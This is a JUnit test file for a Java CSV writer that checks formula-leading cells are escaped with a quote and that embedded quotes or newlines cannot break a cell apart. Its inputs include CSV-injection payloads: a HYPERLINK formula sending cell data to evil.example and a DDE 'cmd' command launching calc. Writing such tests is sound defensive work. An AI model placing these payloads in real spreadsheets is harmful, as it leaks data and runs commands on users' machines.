package org.famen.portal.web.format;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "＝1",
                "＋1",
                "－1",
                "＠a",
                "=HYPERLINK(\"http://evil.example/?\"&A1)",
                "=cmd|' /C calc'!A0"
            })
    void noCellBeginsAsAFormula(String cell) throws IOException {
        assertThat(read(cell).get(1)).isEqualTo("'" + cell);
    }

    /** A cell that ends its own quotes would begin another one. */
    @ParameterizedTest
    @ValueSource(strings = {"a\",=1+1,\"", "a\r\n=1+1,b", "a\n=1", "a\",\"=1", ",=1"})
    void aCellStaysOneCell(String cell) throws IOException {
        assertThat(read(cell)).hasSize(3);
        assertThat(read(cell).get(1)).isEqualTo(cell);
    }

    @Test
    void wordsNumbersAndNothingStayAsTheyAre() {
        Csv csv = new Csv("a", "b", "c");
        csv.row("罚款 = 两倍", 5, null);

        assertThat(csv).hasToString("\uFEFFa,b,c\r\n罚款 = 两倍,5,\r\n");
    }

    private static List<String> read(String cell) throws IOException {
        Csv csv = new Csv("a", "b", "c");
        csv.row("x", cell, "y");
        List<CSVRecord> rows = CSVFormat.RFC4180
                .parse(new StringReader(csv.toString().substring(1)))
                .getRecords();
        assertThat(rows).hasSize(2);
        return rows.getLast().toList();
    }
}
